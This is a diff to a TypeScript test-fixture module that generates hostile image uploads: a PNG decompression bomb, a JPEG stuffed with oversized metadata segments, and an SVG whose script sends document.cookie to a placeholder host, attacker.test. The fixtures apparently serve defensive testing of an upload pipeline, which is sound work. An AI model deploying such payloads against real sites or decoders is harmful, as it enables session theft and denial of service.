@@ -1,4 +1,4 @@
-import { crc32 } from 'node:zlib';
+import { crc32, deflateSync } from 'node:zlib';
 import sharp, { type Sharp } from 'sharp';
 
 // Image fixtures are generated with sharp at test time, never committed. Pixels come from a
@@ -110,6 +110,59 @@ export async function pngClaimingDimensions(width: number, height: number): Prom
   png.writeUInt32BE(height, 20);
   png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
   return png;
+}
+
+/**
+ * A real decompression bomb: a valid 1-bit greyscale PNG of `width` × `height` (default
+ * 30000×30000 = 900 MP) whose pixels are all black, so it deflates to about 1/1000 of its
+ * decoded size (≈ 110 kB here, 900 MB as 8-bit pixels). Built by hand with zlib in well under
+ * a second; every chunk and CRC is valid, so only a pixel limit stops a decoder.
+ */
+export function makeDecompressionBomb(width = 30_000, height = 30_000): Buffer {
+  const chunk = (type: string, data: Buffer) => {
+    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+    const head = Buffer.alloc(4);
+    head.writeUInt32BE(data.length);
+    const crc = Buffer.alloc(4);
+    crc.writeUInt32BE(crc32(body));
+    return Buffer.concat([head, body, crc]);
+  };
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(width, 0);
+  ihdr.writeUInt32BE(height, 4);
+  ihdr[8] = 1; // bit depth
+  ihdr[9] = 0; // greyscale
+  const row = 1 + Math.ceil(width / 8); // filter byte (0) + packed bits, all zero
+  const idat = deflateSync(Buffer.alloc(row * height), { level: 9 });
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk('IHDR', ihdr),
+    chunk('IDAT', idat),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
+/**
+ * `jpeg` with `count` extra APP15 segments of `segmentBytes` (≤ 65533) each inserted after SOI:
+ * a JPEG carrying huge metadata, as some editors and hostile uploads write.
+ */
+export function withJpegMetadata(jpeg: Buffer, count: number, segmentBytes = 65_533): Buffer {
+  if (jpeg[0] !== 0xff || jpeg[1] !== 0xd8) throw new Error('not a JPEG');
+  if (segmentBytes > 65_533) throw new RangeError('a JPEG segment holds at most 65533 bytes');
+  const segment = Buffer.alloc(4 + segmentBytes, 0x20);
+  segment.writeUInt16BE(0xffef, 0);
+  segment.writeUInt16BE(segmentBytes + 2, 2);
+  return Buffer.concat([jpeg.subarray(0, 2), ...Array.from({ length: count }, () => segment), jpeg.subarray(2)]);
+}
+
+/** An SVG with a script and an external reference: what an SVG upload can carry. */
+export function makeHostileSvg(): Buffer {
+  return Buffer.from(
+    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48">' +
+      '<script>fetch("https://attacker.test/?c=" + document.cookie)</script>' +
+      '<image xlink:href="https://attacker.test/pixel.png" width="64" height="48"/></svg>',
+    'utf8',
+  );
 }
 
 /** Plain UTF-8 text. */
